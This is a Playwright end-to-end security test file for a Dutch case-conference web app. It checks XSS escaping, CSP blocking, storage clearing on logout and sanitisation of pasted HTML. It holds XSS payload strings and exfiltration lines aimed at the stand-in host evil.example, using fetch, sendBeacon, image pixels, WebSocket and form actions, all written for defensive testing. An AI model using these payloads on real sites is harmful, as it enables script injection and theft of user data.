import type { BrowserContext, Page } from '@playwright/test'
import { seatClientCommand } from '#app/commands/seat-client.server.ts'
import { vaststellenCommand } from '#app/commands/vaststellen.server.ts'
import { DOCUMENTEN } from '#domain/document.ts'
import { createClientCookie } from '../helpers/client-side.ts'
import { adresOf, ROUTES } from '../helpers/routes.ts'
import { seedTafel } from '../helpers/seed-tafel.ts'
import { expect, type House, test } from './fixtures.ts'
import { openAs } from './people.ts'
import { editor, expectDocument, expectSaved } from './professional.ts'
import { ALLES, maakScherp } from './scherpe-tekst.ts'

async function addCookie(context: BrowserContext, { server }: House, cookie: string) {
  const [name = '', value = ''] = cookie.split('=')
  await context.addCookies([{ name, value, url: server.origin, httpOnly: true }])
}

/** What ran in a page that nobody of ours wrote; undefined for nothing. */
function xss(page: Page): Promise<unknown> {
  return page.evaluate(() => Reflect.get(window, '__xss'))
}

/** False for what a browser keeps as a file, and for a refusal of one: there is nothing in it that could run. */
async function openPagina(page: Page, path: string): Promise<boolean> {
  const response = await page.goto(path).catch((error: Error) => {
    if (error.message.includes('Download is starting')) return null
    throw error
  })
  return response?.headers()['content-type']?.startsWith('text/html') ?? false
}

async function expectHarmless(page: Page, path: string) {
  const isPagina = await openPagina(page, path)
  if (!isPagina) return
  await expect(page.locator('h1').first()).toBeVisible()
  expect(await xss(page), path).toBeUndefined()
  const vreemd = page.locator(
    'iframe, object, embed, base, svg svg, img, math, [onload], [onerror]',
  )
  expect(await vreemd.evaluateAll((all) => all.map(({ outerHTML }) => outerHTML)), path).toEqual([])
}

test('[check 71] what somebody writes to run in the browser of another is text there, in every field, on every page, for every role', async ({
  house,
  openPage,
}) => {
  const { sql } = house.database
  const tafel = await seedTafel(sql, 'vooroverleg')
  const { overlegId, ids, regie, clientPersoonId } = tafel
  await maakScherp(sql, tafel)
  const professional = ROUTES.filter((route) => /^\/(overleggen|acties|account)/.test(route))
  const paths = professional.flatMap((route) =>
    route.includes(':document')
      ? DOCUMENTEN.map((document) => adresOf(route, overlegId).replace(':document', document))
      : [adresOf(route, overlegId)],
  )
  const page = await openAs(openPage, house, ids.procesregisseur)
  page.on('dialog', () => expect('a dialog').toBe('never there'))
  for (const path of paths) {
    if (!/nieuw$|handeling$/.test(path)) await expectHarmless(page, path)
  }
  await page.goto(`/overleggen/${overlegId}/document/besluitvorming`)
  await expect(editor(page, 'besluitvorming')).toContainText('<img src=x onerror="window.__xss=2">')
  await expect(page.getByLabel('Wat', { exact: true }).nth(3)).toHaveValue(ALLES)

  const seated = await seatClientCommand(sql, { ...regie, sessieIds: [tafel.wachtend] })
  expect(seated.ok).toBe(true)
  const partner = await openAs(openPage, house, ids.vertrekt)
  await expectHarmless(partner, `/overleggen/${overlegId}/document/beeldvorming`)
  await expectHarmless(partner, `/overleggen/${overlegId}/document/besluitvorming`)
  const client = await openPage()
  const toegelaten = await createClientCookie(sql, { clientPersoonId, toegelaten: true })
  await addCookie(client.context(), house, toegelaten)
  await expectHarmless(client, '/mijn-plan')
  await expect(client.locator('body')).toContainText('<svg/onload=window.__xss=3>')
  await expectHarmless(page, `/overleggen/${overlegId}/meekijken`)

  expect((await vaststellenCommand(sql, regie)).ok).toBe(true)
  await sql`
    insert into actie_status (actie_id, status, notitie, gebruiker_id)
    select id, 'loopt', ${ALLES.slice(0, 1_900)}, ${ids.procesregisseur} from actie`
  await addCookie(
    client.context(),
    house,
    await createClientCookie(sql, { clientPersoonId, metPin: true }),
  )
  await expectHarmless(client, '/mijn-plan')
  for (const path of [`/overleggen/${overlegId}/plan`, '/acties', '/overleggen']) {
    await expectHarmless(page, path)
    await page.emulateMedia({ media: 'print' })
    expect(await xss(page)).toBeUndefined()
    await page.emulateMedia({ media: 'screen' })
  }
})

const BINNENGEKOMEN = `<img src=x onerror="window.__xss=1"><svg onload="window.__xss=2"></svg>
  <script>window.__xss=3</script><script src="https://evil.example/x.js"></script>
  <iframe srcdoc="<script>parent.__xss=4</script>"></iframe><base href="https://evil.example/">
  <link rel="stylesheet" href="https://evil.example/x.css"><object data="https://evil.example/"></object>
  <style>body { background: url(https://evil.example/x.png) }</style>
  <a id="klik" href="javascript:window.__xss=5">x</a>
  <form id="stuur" action="https://evil.example/"><button>x</button></form>`

test('[check 53] a script that got into a page all the same does not run there, and brings nothing out', async ({
  house,
  openPage,
  faults,
}) => {
  const { ids } = await seedTafel(house.database.sql, 'vooroverleg')
  const page = await openAs(openPage, house, ids.blijft)
  const reached: string[] = []
  await page.route(/evil\.example/, (route) => {
    reached.push(route.request().url())
    return route.abort()
  })
  await page.route('**/overleggen', async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace('</main>', `${BINNENGEKOMEN}</main>`)
    await route.fulfill({ response, body })
  })
  await page.goto('/overleggen')
  await expect.poll(() => faults.join()).toContain('script-src-elem')
  expect(await xss(page)).toBeUndefined()

  await page.unroute('**/overleggen')
  await page.goto('/acties')
  await page.evaluate((html) => {
    document.body.insertAdjacentHTML('beforeend', html)
    document.querySelector<HTMLElement>('#klik')?.click()
    document.querySelector<HTMLFormElement>('#stuur')?.requestSubmit()
    // No request that gets out says where it came from, or brings anything along.
    void fetch('https://evil.example/fetch').catch(() => {})
    navigator.sendBeacon('https://evil.example/beacon', 'x')
    new Image().src = 'https://evil.example/pixel.png'
    new WebSocket('wss://evil.example/')
  }, BINNENGEKOMEN)
  await expect.poll(() => faults.join()).toContain('form-action')
  await expect.poll(() => faults.join()).toContain('pixel.png')
  expect(await xss(page)).toBeUndefined()
  expect(new URL(page.url()).pathname).toBe('/acties')
  expect(reached).toEqual([])
  faults.length = 0
})

/** Everything in which a browser keeps something for later, but its cookies. */
function stored(page: Page): Promise<unknown> {
  return page.evaluate(async () => {
    const own = Object.keys(sessionStorage).filter((key) => key !== 'react-router-scroll-positions')
    const databases = await indexedDB.databases()
    const caches = 'caches' in window ? await window.caches.keys() : []
    const workers = await navigator.serviceWorker.getRegistrations()
    // That a page asks by itself, for a moment; it says nothing else.
    const cookies = document.cookie.replace(/focustafel_vanzelf=1/, '')
    return [Object.keys(localStorage), own, databases, caches, workers.length, cookies]
  })
}

const NIETS = [[], [], [], [], 0, '']

test('[check 21] [check 22] [check 56] in one browser a partner and a cliënt do not mix; after a cut and after signing out nothing is kept, and going back shows nothing', async ({
  house,
  openPage,
}) => {
  const { sql } = house.database
  const tafel = await seedTafel(sql, 'vooroverleg')
  const { overlegId, ids, regie, clientPersoonId } = tafel
  const tekst = `/overleggen/${overlegId}/document/besluitvorming`
  const partner = await openAs(openPage, house, ids.vertrekt)
  await partner.goto('/acties')
  await partner.goto(tekst)
  await expectDocument(partner, 'besluitvorming')
  await editor(partner, 'besluitvorming').pressSequentially('Woorden van de partner. ')
  await expectSaved(partner)
  expect(await stored(partner)).toEqual(NIETS)

  const client = await partner.context().newPage()
  await addCookie(client.context(), house, await createClientCookie(sql, { clientPersoonId }))
  await client.goto('/mijn-plan')
  await expect(client.getByRole('heading', { level: 1 })).toContainText('wachtkamer')
  await expect(client.locator('body')).not.toContainText('Woorden van de partner')
  await partner.reload()
  await expect(editor(partner, 'besluitvorming')).toContainText('Woorden van de partner')

  expect((await seatClientCommand(sql, { ...regie, sessieIds: [tafel.wachtend] })).ok).toBe(true)
  await expect(editor(partner, 'besluitvorming')).toHaveCount(0)
  expect(await stored(partner)).toEqual(NIETS)
  expect(await stored(client)).toEqual(NIETS)

  await partner.goto(`/overleggen/${overlegId}/document/vraagstelling`)
  await expectDocument(partner, 'vraagstelling')
  await expect(partner.getByText('vaste plek om te wonen')).toBeVisible()
  await partner.goto('/overleggen')
  await partner.evaluate(() => localStorage.setItem('iets', 'x'))
  await partner.getByRole('button', { name: 'Uitloggen' }).click()
  await expect(partner.getByRole('heading', { level: 1, name: 'Inloggen' })).toBeVisible()
  await expect.poll(() => stored(partner)).toEqual(NIETS)
  for (let n = 0; n < 4; n++) {
    await partner.goBack()
    await expect(partner.getByRole('heading', { level: 1, name: 'Inloggen' })).toBeVisible()
    await expect(partner.locator('body')).not.toContainText('vaste plek')
  }
  await client.reload()
  await expect(client.getByRole('heading', { level: 1 })).toContainText('wachtkamer')
})

const GEPLAKT = `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head>
  <base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
  <style>@import url(https://evil.example/b.css); p.MsoNormal { background: url(https://evil.example/c.png) }</style>
  <meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body>
  <h3>Kop uit Word</h3><p class="MsoNormal" style="background:url(https://evil.example/d.png)">Woorden
  uit <b>Word</b><o:p></o:p></p><img src="https://evil.example/pixel.png" onerror="window.__xss=1">
  <p><a href="javascript:window.__xss=2">een link</a></p><svg onload="window.__xss=3"><image
  href="https://evil.example/x.svg"/></svg><script>window.__xss=4</script>
  <iframe src="https://evil.example/"></iframe><video poster="https://evil.example/e.png"></video>
  <ul><li>punt een</li></ul><table><tr><td background="https://evil.example/f.png">cel</td></tr></table>
  <input autofocus onfocus="window.__xss=5"><math><mtext>x</mtext></math></body></html>`

test('[check 73] what is pasted from Word or from a web page brings its words, and asks nothing of anybody', async ({
  house,
  openPage,
  faults,
}) => {
  const tafel = await seedTafel(house.database.sql, 'vooroverleg')
  const tekst = `/overleggen/${tafel.overlegId}/document/besluitvorming`
  const page = await openAs(openPage, house, tafel.ids.blijft)
  const ander = await openAs(openPage, house, tafel.ids.casushouder)
  for (const een of [page, ander]) {
    await een.goto(tekst)
    await expectDocument(een, 'besluitvorming')
  }
  await editor(page, 'besluitvorming').click()
  await editor(page, 'besluitvorming').evaluate((element, html) => {
    const clipboardData = new DataTransfer()
    clipboardData.setData('text/html', html)
    clipboardData.setData('text/plain', 'Woorden uit Word')
    const init = { clipboardData, bubbles: true, cancelable: true }
    element.dispatchEvent(new ClipboardEvent('paste', init))
  }, GEPLAKT)
  await expectSaved(page)
  for (const een of [page, ander]) {
    const text = editor(een, 'besluitvorming')
    for (const woord of ['Kop uit Word', 'Word', 'een link', 'punt een', 'cel']) {
      await expect(text).toContainText(woord)
    }
    const vreemd = text.locator(
      'a, img:not(.ProseMirror-separator), svg, iframe, video, input:not([type=checkbox]), style, script',
    )
    expect(await vreemd.evaluateAll((all) => all.map(({ outerHTML }) => outerHTML))).toEqual([])
    expect(await text.innerHTML()).not.toContain('evil.example')
    expect(await xss(een)).toBeUndefined()
  }
  // What it would have done was refused, in the sheet in which the editor reads it, and nobody was asked anything.
  expect(faults.filter((fault) => !/security policy/i.test(fault))).toEqual([])
  faults.length = 0
})
